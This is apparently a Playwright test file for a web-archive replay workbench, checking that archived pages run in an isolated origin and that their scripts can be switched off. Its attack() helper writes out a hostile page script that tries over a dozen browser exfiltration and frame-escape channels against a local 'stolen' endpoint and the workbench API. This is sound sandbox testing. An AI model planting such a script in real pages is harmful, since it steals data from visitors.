import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { builtRecollect } from "../built-recollect.ts";
import { skipLoudly } from "../loud-skip.ts";
import { closeBrowser, hasReplayBrowser, inBrowser } from "../replay-browser.ts";
import { quakeText, tinySite } from "../tiny-site.ts";
import { eventually, type RunningWorkbench, seriousFindings, startWorkbench } from "../workbench-browser.ts";

let folder: string;
let bench: RunningWorkbench;
/** Another server on this machine, and the requests that have reached it. */
let other: Server;
const reached: string[] = [];

beforeAll(async () => {
  if (!hasReplayBrowser) return;
  folder = mkdtempSync(join(tmpdir(), "recollect-replay-"));
  other = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.end();
  });
  other.on("upgrade", (request) => reached.push(`upgrade ${request.url}`));
  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
  bench = await startWorkbench(folder, "bench");
  const home = "http://harbour.example/";
  const hostile = `<script>${attack([`${bench.url}/api/workbench`, `${bench.namedUrl}/api/workbench`, `http://127.0.0.1:${(other.address() as AddressInfo).port}/stolen`])}</script>`;
  const { archive } = await tinySite(folder, [
    {
      url: home,
      title: "The ground shook",
      text: quakeText,
      links: ["/evil"],
      html: `<script>document.querySelector("h1").id = "ran"</script>`,
    },
    { url: `${home}evil`, title: "The tsunami", text: `${quakeText} Again.`, html: hostile },
  ]);
  archive.close();
  const crawl = builtRecollect(folder)(..."crawl quake.yaml --archive warcs --out bench/quake --workers 0 --no-report".split(" "));
  expect(crawl).toMatchObject({ status: 0 });
});
afterAll(async () => {
  await closeBrowser();
  await bench?.stop();
  other?.closeAllConnections();
  other?.close();
  if (folder) rmSync(folder, { recursive: true });
});

/** Returns a script that tries to send requests in every known way, in its own frame and in all frames around it, and logs when it has finished. */
function attack(targets: readonly string[]): string {
  const tries = `
    const around = [window];
    try { around.push(document.body.appendChild(document.createElement("iframe")).contentWindow); } catch {}
    for (const first of [() => window, () => (0, eval)("this"), () => new Function("return this")(), () => around[1]])
      try { for (let one = first(), n = 0; n < 6; n++, one = one["par" + "ent"]) around.push(one); } catch {}
    const ways = [
      (w, u) => w.fetch(u).catch(() => {}),
      (w, u) => w.fetch(u, { mode: "no-cors", method: "POST", body: "{}" }).catch(() => {}),
      (w, u) => w.navigator.sendBeacon(u, "{}"),
      (w, u) => { const x = new w.XMLHttpRequest(); x.open("GET", u); x.send(); },
      (w, u) => { const s = new w.WebSocket(u.replace("http", "ws")); s.onerror = () => {}; },
      (w, u) => { new w.EventSource(u); },
      (w, u) => { new w.Image().src = u; },
      (w, u) => { const d = w.document, i = d.createElement("iframe"); i.src = u; d.body.append(i); },
      (w, u) => { const d = w.document, i = d.createElement("script"); i.src = u; d.body.append(i); },
      (w, u) => { const d = w.document, i = d.createElement("link"); i.rel = "stylesheet"; i.href = u; d.head.append(i); },
      (w, u) => { new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch(" + JSON.stringify(u) + ", { mode: 'no-cors' })"]))); },
      (w) => { w.sessionStorage.setItem("stolen", "1"); w.localStorage.setItem("stolen", "1"); },
      (w, u) => { w.parent.postMessage({ type: "recollect", url: u }, "*"); },
    ];
    const leavingWays = [
      (w, u) => { const d = w.document, f = d.createElement("form"); f.action = u; f.method = "post"; f.target = "_blank"; d.body.append(f); f.submit(); },
      (w, u) => { w.open(u); },
      (w, u) => { w.top.location = u; },
    ];`;
  return `(() => {${tries}
    const all = (way) => { for (const frame of new Set(around)) for (const target of ${JSON.stringify(targets)}) try { way(frame, target); } catch {} };
    for (const way of ways) all(way);
    console.log("tried " + new Set(around).size);
    for (const way of leavingWays) all(way); // last, since the console of a frame that is left does not reach the test
    })();`;
}

const view = (path: string, origin = bench.namedUrl) =>
  `${origin}/collections/quake/replay?url=${encodeURIComponent(`http://harbour.example/${path}`)}&captured=2011-03-12T00:00:00Z`;
const archived = (page: Page) =>
  page.frameLocator("iframe.replay").frameLocator("replay-web-page iframe").frameLocator("iframe.iframe-main");

/** Opens a page in replay. On a busy machine, its service worker may start only after the page was requested: then a reload shows the page. */
async function open(
  page: Page,
  path: string,
  isShown = () => archived(page).locator("h1").first().waitFor({ state: "attached" }),
): Promise<void> {
  await page.goto(view(path));
  await isShown().catch(() => page.reload().then(isShown));
}

if (!hasReplayBrowser)
  skipLoudly("replay in the workbench", "it needs Debian's chromium, and the npm packages replaywebpage and playwright-core");
else {
  test("replays a page of the collection with its script, from an origin of its own", async () => {
    await inBrowser(async (page) => {
      const complaints: string[] = []; // only those of the workbench: the player writes messages of its own
      page.on("console", (message) => message.location().url.startsWith(bench.namedUrl) && complaints.push(message.text()));
      await page.setViewportSize({ width: 1440, height: 900 });
      await open(page, "");
      await eventually(() => archived(page).locator("h1#ran").textContent()).toBe("The ground shook");
      const origins = page.frames().map((frame) => new URL(frame.url()).origin);
      expect(origins[0]).toBe(bench.namedUrl);
      expect(origins.slice(1)).not.toContain(bench.namedUrl);
      expect(await seriousFindings(page)).toEqual([]);
      expect(complaints).toEqual([]);
      if (process.env.SCREENSHOTS) await page.screenshot({ path: join(process.env.SCREENSHOTS, "replay.png") });
    });
  });

  test("U02: keeps a hostile page from the workbench's API and every other server, by any means and in any frame", async () => {
    await inBrowser(async (page) => {
      const answered: string[] = [];
      page.context().on("response", (response) => {
        const isMain = response.request().serviceWorker() === null && response.frame() === page.mainFrame();
        const isOurs = [bench.url, bench.namedUrl].some((url) => response.url().startsWith(`${url}/`));
        if (isOurs && !isMain && response.status() !== 403) answered.push(response.url());
      });
      let tried = "";
      page.on("console", (message) => {
        if (message.text().startsWith("tried")) tried = message.text();
      });
      // In itself, a frame inside it, and at least one around it.
      await open(page, "evil", () => eventually(() => tried).toMatch(/^tried [3-9]/));
      // When these are answered, the browser has sent all earlier requests that it will send.
      for (let n = 0; n < 10; n++) await page.evaluate("fetch('/api/workbench').then((answer) => answer.json())");
      expect(page.url()).toBe(view("evil"));
      expect(answered).toEqual([]);
      expect(reached).toEqual([]);
      expect(await page.evaluate("sessionStorage.getItem('stolen') ?? localStorage.getItem('stolen')")).toBeNull();
      expect(
        page
          .context()
          .pages()
          .filter((one) => one.url().startsWith("http")),
      ).toHaveLength(1);
      expect(readdirSync(join(folder, "bench")).sort()).toEqual(["quake"]);
    });
  });

  test("refuses to be embedded by a page of another origin", async () => {
    const { host, port } = (await (await bench.fetch("/api/collections/quake/replay")).json()) as { host: string; port: number };
    const frame = createServer((_, response) =>
      response.setHeader("content-type", "text/html").end(`<iframe src="http://${host}:${port}/"></iframe>`),
    );
    await new Promise<void>((resolve) => frame.listen(0, "127.0.0.1", resolve));
    await inBrowser(async (page) => {
      await page.goto(`http://127.0.0.1:${(frame.address() as AddressInfo).port}/`);
      await eventually(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
    });
    frame.closeAllConnections();
    frame.close();
  });

  test("Y01: scripts of archived pages can be turned off, and stay off", async () => {
    await inBrowser(async (page) => {
      let tried = "";
      page.on("console", (message) => {
        if (message.text().startsWith("tried")) tried = message.text();
      });
      await open(page, "");
      await archived(page).locator("h1#ran").waitFor();
      await page.getByText("could send data out by WebRTC").waitFor();
      await page.getByLabel("Run the scripts of archived pages").uncheck();
      await archived(page).locator("h1:not(#ran)").waitFor();
      await page.getByText("Scripts are off.").waitFor();
      await open(page, "evil");
      await archived(page).getByRole("heading", { name: "The tsunami" }).waitFor();
      expect(await page.getByLabel("Run the scripts of archived pages").isChecked()).toBe(false);
      expect(tried).toBe("");
      expect(await seriousFindings(page)).toEqual([]);
      if (process.env.SCREENSHOTS) await page.screenshot({ path: join(process.env.SCREENSHOTS, "replay-without-scripts.png") });
    });
  });

  test("names an unarchived address in the replay, with scripts and without", async () => {
    await inBrowser(async (page) => {
      for (const scripts of ["on", "off"]) {
        await page.goto(view("none"));
        if (scripts === "off") await page.getByLabel("Run the scripts of archived pages").uncheck();
        await archived(page).getByRole("heading", { name: "Not in this collection" }).waitFor();
        await archived(page).getByText("http://harbour.example/none").waitFor();
      }
    });
  });

  test("links from a workbench opened by its IP address to its address that can replay", async () => {
    await inBrowser(async (page) => {
      await page.goto(view("", bench.url));
      const link = page.getByRole("link", { name: "Open this view at recollect.localhost" });
      expect(await link.getAttribute("href")).toContain("#token=");
      await link.click();
      await archived(page).locator("h1#ran").waitFor();
      expect(page.url()).toBe(view(""));
    });
  });

  test("fits a dark window of 390 pixels and is accessible", async () => {
    await inBrowser(async (page) => {
      await page.setViewportSize({ width: 390, height: 844 });
      await page.emulateMedia({ colorScheme: "dark" });
      await open(page, "");
      expect(await seriousFindings(page)).toEqual([]);
      expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBeLessThanOrEqual(0);
    });
  });
}
